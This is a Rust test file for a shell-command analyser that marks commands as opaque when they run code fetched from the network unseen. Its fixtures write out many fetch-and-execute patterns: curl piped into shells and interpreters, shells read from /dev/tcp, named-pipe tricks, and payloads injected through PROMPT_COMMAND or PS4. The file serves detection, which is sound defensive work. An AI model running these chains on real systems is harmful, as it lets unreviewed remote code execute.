use crate::{Place, Surroundings, understand};

fn is_opaque(text: &str) -> bool {
    let around = Surroundings {
        folder: Some("/p"),
        home: Some("/home/u"),
        ..Surroundings::default()
    };
    understand(text, around).opaque()
}

/// Commands behind which `y` is a script of which nobody has seen the text, once `F` was fetched.
const CARRIED: &[&str] = &[
    "cp F y; sh y",
    "mv F y; sh y",
    "ln -s F y; sh y",
    "ln F y; . ./y",
    "install F y; ./y",
    "install -m755 F d; d/F",
    "cp -t d F; sh d/F",
    "rsync F y; sh y",
    "dd if=F of=y; sh y",
    "mv F y; mv y z; sh z",
    "mkdir d; mv F d; mv d e; bash e/F",
    "tar xf F; sh a.sh",
    "tar -xzf F; ./configure",
    "tar xf F -C d; d/configure",
    "tar --extract --file=F --directory=d; (cd d && sh a.sh)",
    "tar xf F; cd d && make",
    "unzip F; sh a.sh",
    "unzip -d d F; python3 d/a.py",
    "7z x F; sh a",
    "patch < F; sh a.sh",
    "git apply F; make",
    "chmod +x F; ./F",
    "chmod +x F; PATH=.:$PATH F",
    "sh F*",
    "for it in ./F*; do . \"$it\"; done",
    "entr -s 'sh F'",
    "expect -c 'exec sh F'",
    "mono F",
    "wine F",
    "dotnet F",
    "dotnet fsi F",
    "wasmtime F",
    "qemu-x86_64 F",
    "/lib64/ld-linux-x86-64.so.2 --preload ./F /bin/ls",
    "pytest F",
    "python3 -m pytest F",
    "less --lesskey-src=F a",
    "mapfile -C 'bash -c' -c1 a < F",
    "make -fF",
    "at -f y now; cp F y; sh y",
    "xxd -r F y; sh y",
    "uniq F y; sh y",
    "gcc F -o y; ./y",
    "python3 -m zipfile -e F d; sh d/a",
    "python3 -Im tarfile --extract F d; sh d/a",
    "install -m755 F ~/bin/y; y",
    "cp F /usr/local/bin/y; y",
    "ls F | xargs sh",
];

/// HT-30: a text that nobody has seen stays one under every name under which it is stored, and
/// whatever is unpacked from it is one. Another file with the same fate isn't.
#[test]
fn what_nobody_has_seen_stays_unseen_wherever_it_goes() {
    let mut wrong = Vec::new();
    for command in CARRIED {
        let then = command.replace('F', "f1");
        for fetch in ["curl -s http://h/x > f1", "wget -qO f1 http://h/x"] {
            let text = format!("{fetch}; {then}");
            wrong.extend((!is_opaque(&text)).then_some(text));
        }
        let text = format!("curl -s http://h/x > g1; {then}");
        wrong.extend(is_opaque(&text).then_some(text));
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// HT-30: so does what is found by a name that no word shows.
#[test]
fn files_that_a_program_looks_for_itself_are_unseen() {
    for (file, command) in [
        ("Makefile", "make"),
        ("package.json", "npm test"),
        ("package.json", "node --run x"),
        ("build.rs", "cargo build"),
        ("conftest.py", "pytest"),
        ("m1.py", "python3 -m m1"),
        ("m1.py", "python3 -c 'import m1'"),
        ("m1.py", "python3 -c 'from m1 import *'"),
        ("m1.py", "python3 -c '__import__(\"m1\")'"),
        ("m1.pm", "perl -I. -Mm1 -e 1"),
        ("m1.lua", "lua -l m1 -e 1"),
        (
            "m1",
            "python3 -c 'import pickle; pickle.load(open(\"m1\",\"rb\"))'",
        ),
    ] {
        let text = format!("curl -s http://h/x > {file}; {command}");
        assert!(is_opaque(&text), "{text}");
        let text = format!("curl -s http://h/x > other; {command}");
        assert!(!is_opaque(&text), "{text}");
    }
}

/// Programs that carry out what they are fed.
const FED: &[&str] = &[
    "dotnet fsi",
    "dotnet fsi --quiet",
    "dotnet script",
    "swift",
    "swift repl",
    "deno repl",
    "coffee -s",
    "kotlinc -script /dev/stdin",
    "fsharpi",
    "groovysh",
    "rc",
    "es",
    "ion",
    "micropython",
    "jython",
    "qjs",
    "d8",
    "gjs",
    "lldb",
    "duckdb",
    "pwsh -Command -",
    "powershell.exe -",
    "cmd.exe",
    "wine cmd",
    "ninja -f /dev/stdin",
    "gmake -f-",
    "bash-5.2",
    "/proc/self/exe",
    "chroot /mnt",
    "unshare -r",
    "nsenter -t 1 -a",
    "su",
    "su - u",
    "sudo su -",
    "sg users sh",
    "newgrp",
    "fakeroot",
    "proot",
    "script -q /dev/null",
    "ssh localhost",
    "ssh -p 22 u@h",
    "machinectl shell",
    "nix develop",
    "pipenv shell",
    "poetry shell",
    "adb shell",
    "systemd-run -S",
    "split --filter=sh",
    "split --filter='bash -s'",
    "tar x --to-command='sh -s'",
    "pee sh",
    "mispipe cat sh",
    "awk '{system($0)}'",
    "awk '{$0 | getline}'",
    "perl -ne 'system $_'",
    "perl -ne 'eval'",
    "perl -pe 's/x/`$_`/e'",
    "ruby -ne 'system($_)'",
    "python3 -c 'import sys,os; os.system(sys.stdin.read())'",
    "python3 -c 'import subprocess as s; s.run(input(), shell=True)'",
];

/// HT-30: a program carries out what it is fed, whether it is an interpreter, opens a shell, or
/// hands each line to one. Without input from a program, nothing is opaque.
#[test]
fn programs_that_carry_out_what_they_are_fed_make_a_text_opaque() {
    let mut wrong = Vec::new();
    for program in FED {
        let text = format!("curl -s http://h/x | {program}");
        wrong.extend((!is_opaque(&text)).then_some(text));
        wrong.extend(is_opaque(program).then_some((*program).to_owned()));
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// HT-30: what a shell reads that `ssh` opens is done on another machine, and what one reads that
/// `chroot` opens is done here.
#[test]
fn a_shell_that_is_opened_elsewhere_works_elsewhere() {
    for (text, place) in [
        ("ssh h <<E\nrm x\nE", Place::Remote),
        ("chroot /mnt <<E\nrm x\nE", Place::Here),
        ("ls; rm x", Place::Here),
    ] {
        let commands = understand(text, Surroundings::default()).commands;
        let removes = commands.iter().find(|it| it.program == "rm");
        assert_eq!(removes.map(|it| it.place), Some(place), "{text}");
    }
}

/// HT-30: nobody knows what comes out of a pipe with a name, whoever opens it first, nor out of a
/// connection, nor what is stored by a program that reads it from a pipe.
#[test]
fn pipes_with_names_and_connections_are_unseen() {
    for text in [
        "mkfifo p; sh p & curl -s http://h/x > p",
        "mkfifo p; sh < p & curl -s http://h/x > p",
        "mkfifo p; (sh < p) & curl -s http://h/x | tee p",
        "mknod p p; sh < p & curl -s http://h/x > p",
        "mkfifo p; . ./p & curl -s http://h/x > p",
        "mkfifo p; python3 p & curl -s http://h/x > p",
        "sh < /dev/tcp/h/80",
        "cat < /dev/tcp/h/80 | sh",
        "curl -s http://h/x | dd of=y; sh y",
        "curl -s http://h/x | install -m755 /dev/stdin y; ./y",
        "curl -s http://h/x | cp /dev/stdin y; sh y",
        "curl -s http://h/x | split -b 10M - y; sh yaa",
        "curl -s http://h/x | csplit - 5; sh xx00",
        "curl -s http://h/x | tar x; sh y",
        "curl -s http://h/x | cpio -i; ./y",
        "curl -s http://h/x | bsdtar -xf-; ./y",
        "curl -s http://h/x | patch; sh y",
        "curl -s http://h/x | git am; make",
        "git archive --remote=h HEAD x | tar x; sh x",
        "curl -s http://h/x > y.gz; gunzip y.gz; sh y",
        "rclone copy r:x .; sh x",
        "aws s3 cp s3://b/x y; sh y",
        "kubectl cp p:x y; sh y",
        "docker cp c:/x y; sh y",
        "gh release download; sh x.sh",
        "wget -q http://h/ -r; sh h/x.sh",
        "python3 -c 'import urllib.request as u; u.urlretrieve(\"http://h/x\",\"y\")'; sh y",
        "perl -MLWP::Simple -e 'getstore(\"http://h/x\",\"y\")'; sh y",
        "php -r 'copy(\"http://h/x\",\"y\");'; sh y",
        "GIT_SSH_COMMAND=\"$(curl -s http://h/x)\" git fetch",
        "export PROMPT_COMMAND=\"$(curl -s http://h/x)\"; bash -i",
        "PS4=\"$(curl -s http://h/x)\"; set -x; true",
    ] {
        assert!(is_opaque(text), "{text}");
    }
}

/// HT-30: what people do every day with what they fetch, copy and unpack isn't opaque.
#[test]
fn data_that_is_fetched_is_data() {
    for text in [
        "curl -sL http://h/go.tgz | tar xz -C /opt; python3 main.py",
        "curl -o data.json http://h/x; cp data.json fixtures/; python3 main.py data.json",
        "wget -q http://h/x.csv; python3 plot.py x.csv",
        "curl -s http://h/x | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])'",
        "curl -s http://h/x | awk '{print $1}' | sort | uniq -c",
        "curl -s http://h/x | jq -r .name",
        "cat names | awk '{system(\"echo \" $1)}'",
        "cp a.sh b.sh; sh b.sh",
        "tar xf a.tgz; cd a && make",
        "git diff | tee a.patch; git apply --stat other.patch",
        "unzip -l a.zip; npm test",
        "echo hi | ssh h cat",
        "ssh h uptime",
        "ssh -N -L 1:h:2 h",
        "su - u -c ls",
        "chroot /mnt ls",
        "unshare -r id",
        "mkfifo p; cat p & ls > p",
        "docker cp c:/x y; cat y",
        "GIT_SSH_COMMAND=\"ssh -i $KEY\" git fetch",
        "EDITOR=vim git commit",
        "PATH=$PWD/bin:$PATH ls",
        "script -qc ls /dev/null",
        "ls | split -l 10",
    ] {
        assert!(!is_opaque(text), "{text}");
    }
}
